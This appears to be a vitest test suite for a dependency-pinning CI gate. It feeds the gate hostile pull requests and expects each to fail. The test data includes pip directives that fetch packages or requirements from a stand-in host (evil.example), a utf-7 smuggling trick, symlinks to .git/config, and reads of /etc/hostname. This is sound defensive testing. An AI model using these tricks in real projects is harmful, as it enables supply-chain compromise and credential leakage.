// Fail closed, through the bundled action under both pull-request events, with pip 23.2 as the judge of what a
// pull request makes the installer read: every pull request here installs an unpinned `flask` (or something
// pin-audit cannot read), and the gate must fail, never pass or only warn. Build first (`npm run build`).
import { describe, expect, it } from "vitest";
import { cleanUpAfterEach } from "../support/after-each-cleanups.js";
import { explainRun } from "../support/mcp-pr-action.js";
import {
	openPullRequest,
	runPullRequestStep,
} from "../support/pull-request-step.js";

const PULL = 9;
const defer = cleanUpAfterEach();

const BASE = {
	"pin-audit.toml": '[pins]\ndefault = "exact"\n',
	"svc/requirements.txt": "httpx==0.28.1\n",
};

interface Scenario {
	name: string;
	head: Record<string, string | null>;
	headSymlinks?: Record<string, string>;
	/** `rule file` of a finding that must be among the errors. */
	expected: string;
}

const SCENARIOS: Scenario[] = [
	{
		name: "loosens the policy the pull request is judged by",
		head: {
			"pin-audit.toml": '[pins]\ndefault = "any"\n',
			"svc/requirements.txt": "httpx==0.28.1\nflask\n",
		},
		expected: "unpinned svc/requirements.txt",
	},
	{
		name: "hides flask behind a utf-7 coding declaration",
		head: {
			"svc/requirements.txt":
				"# -*- coding: utf-7 -*-\nhttpx==0.28.1\n# pinned by renovate +AAo-flask\n",
		},
		expected: "unauditable svc/requirements.txt",
	},
	{
		name: "installs a nameless URL",
		head: {
			"svc/requirements.txt":
				"httpx==0.28.1\ngit+https://github.com/evil/evil@main\n",
		},
		expected: "unauditable svc/requirements.txt",
	},
	{
		name: "reaches a file through a directory link",
		head: { "svc/vendor/deps.txt": "flask\n" },
		headSymlinks: {
			"svc/lib": "vendor",
			"svc/requirements-extra.txt": "lib/deps.txt",
		},
		// Reported on the path pip opens, the link.
		expected: "unpinned svc/requirements-extra.txt",
	},
	{
		name: "hides a requirements file behind 41 links",
		head: {
			"svc/hops/h41.txt": "flask\n",
		},
		headSymlinks: {
			"svc/requirements-extra.txt": "hops/h0.txt",
			...Object.fromEntries(
				Array.from({ length: 41 }, (_, i) => [
					`svc/hops/h${i}.txt`,
					`h${i + 1}.txt`,
				]),
			),
		},
		expected: "unauditable svc/requirements-extra.txt",
	},
	{
		name: "moves dependencies to setuptools' dynamic file",
		head: {
			"svc/pyproject.toml":
				'[project]\nname = "svc"\nversion = "1"\ndynamic = ["dependencies"]\n\n[tool.setuptools.dynamic]\ndependencies = { file = ["deps.in"] }\n',
			"svc/deps.in": "flask\n",
		},
		expected: "unpinned svc/deps.in",
	},
	{
		name: "drops an empty pyvenv.cfg into the project",
		head: {
			"svc/pyvenv.cfg": "",
			"svc/requirements.txt": "httpx==0.28.1\nflask\n",
		},
		expected: "unpinned svc/requirements.txt",
	},
	{
		name: "pads a requirements file past 16 MiB",
		head: {
			"svc/requirements.txt": `httpx==0.28.1\n${" ".repeat(16 * 1024 * 1024)}\nflask\n`,
		},
		expected: "unauditable svc/requirements.txt",
	},
	{
		name: "simplifies `lib/..` as text where the OS follows the directory link",
		head: {
			"svc/requirements.txt": "httpx==0.28.1\n-r lib/../deps.txt\n",
			"svc/deps.txt": "httpx==0.28.1\n",
			"svc/vendor/deps.txt": "flask\n",
			"svc/vendor/inner/keep.txt": "\n",
		},
		headSymlinks: { "svc/lib": "vendor/inner" },
		// pip opens svc/lib/../deps.txt: the OS resolves it to svc/vendor/deps.txt.
		expected: "unpinned svc/vendor/deps.txt",
	},
	{
		name: "includes from a linked file, relative to the link as pip opens it",
		head: {
			"svc/shared/reqs.txt": "-r deps.txt\n",
			"svc/shared/deps.txt": "httpx==0.28.1\n",
			"svc/deps.txt": "flask\n",
		},
		headSymlinks: { "svc/requirements-extra.txt": "shared/reqs.txt" },
		expected: "unpinned svc/deps.txt",
	},
	{
		name: "adds an extra index",
		head: {
			"svc/requirements.txt":
				"--extra-index-url https://evil.example/simple\nhttpx==0.28.1\n",
		},
		expected: "index svc/requirements.txt",
	},
	{
		name: "adds a find-links location",
		head: {
			"svc/requirements.txt":
				"--find-links https://evil.example/wheels\nhttpx==0.28.1\n",
		},
		expected: "index svc/requirements.txt",
	},
	{
		name: "trusts a host",
		head: {
			"svc/requirements.txt": "--trusted-host evil.example\nhttpx==0.28.1\n",
		},
		expected: "index svc/requirements.txt",
	},
	{
		name: "adds a uv index in pyproject.toml",
		head: {
			"svc/pyproject.toml":
				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\n\n[[tool.uv.index]]\nname = "evil"\nurl = "https://evil.example/simple"\ndefault = true\n',
		},
		expected: "index svc/pyproject.toml",
	},
	{
		name: "locks a package from an index the policy does not list",
		head: {
			"svc/pyproject.toml":
				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\n',
			"svc/uv.lock":
				'version = 1\nrevision = 2\nrequires-python = ">=3.12"\n\n[[package]]\nname = "httpx"\nversion = "0.28.1"\nsource = { registry = "https://evil.example/simple" }\n\n[[package]]\nname = "svc"\nversion = "1"\nsource = { editable = "." }\ndependencies = [{ name = "httpx" }]\n\n[package.metadata]\nrequires-dist = [{ name = "httpx", specifier = "==0.28.1" }]\n',
		},
		expected: "index svc/uv.lock",
	},
	{
		name: "links a requirements file to .git/config",
		head: {},
		headSymlinks: { "svc/requirements-dev.txt": "../.git/config" },
		expected: "unauditable svc/requirements-dev.txt",
	},
	{
		name: "links a requirements file into a virtualenv it commits",
		head: {
			"svc/.venv/pyvenv.cfg": "home = /usr/bin\n",
			"svc/.venv/bin/activate": "\n",
			"svc/.venv/lib/deps.txt": "flask\n",
		},
		headSymlinks: { "svc/requirements-dev.txt": ".venv/lib/deps.txt" },
		expected: "unauditable svc/requirements-dev.txt",
	},
	{
		name: "includes a requirements file pip downloads",
		head: {
			"svc/requirements.txt":
				"httpx==0.28.1\n-r https://evil.example/requirements.txt\n",
		},
		expected: "unauditable svc/requirements.txt",
	},
	{
		name: "includes a file outside the repository",
		head: {
			"svc/requirements.txt": "httpx==0.28.1\n-r /etc/hostname\n",
		},
		expected: "unauditable svc/requirements.txt",
	},
	{
		name: "moves an extra's dependencies to setuptools' dynamic file",
		head: {
			"svc/pyproject.toml":
				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\ndynamic = ["optional-dependencies"]\n\n[tool.setuptools.dynamic]\noptional-dependencies = { dev = { file = ["dev.in"] } }\n',
			"svc/dev.in": "flask\n",
		},
		expected: "unpinned svc/dev.in",
	},
	{
		name: "declares an encoding pip decodes (latin-1)",
		head: {
			"svc/requirements.txt":
				"# -*- coding: latin-1 -*-\n# caf\u00e9\nhttpx==0.28.1\nflask\n",
		},
		expected: "unpinned svc/requirements.txt",
	},
];

describe.each([
	["pull_request", "merge"],
	["pull_request_target", "base"],
] as const)("a pull request under %s", (eventName, checkout) => {
	for (const scenario of SCENARIOS) {
		it(`${scenario.name}: the gate fails`, { timeout: 150_000 }, async () => {
			const opened = await openPullRequest({
				base: BASE,
				head: scenario.head,
				...(scenario.headSymlinks
					? { headSymlinks: scenario.headSymlinks }
					: {}),
				pullNumber: PULL,
				checkout,
				defer,
			});
			const run = await runPullRequestStep(opened, eventName, {
				inputs: { comment: "never", offline: "true" },
				timeoutMs: 120_000,
			});
			const errors = run.annotations
				.filter((a) => a.level === "error" && a.file)
				.map(
					(a) => `${a.title?.replace(/^pin-audit: | \(new\)$/g, "")} ${a.file}`,
				);
			expect(errors, explainRun(run)).toContain(scenario.expected);
			expect(run.code, explainRun(run)).toBe(1);
			// Nothing of the checkout's git configuration is quoted anywhere.
			expect(`${run.stdout}${run.stderr}${run.summary}`).not.toMatch(
				/repositoryformatversion|\[remote "origin"\]/,
			);
		});
	}
});
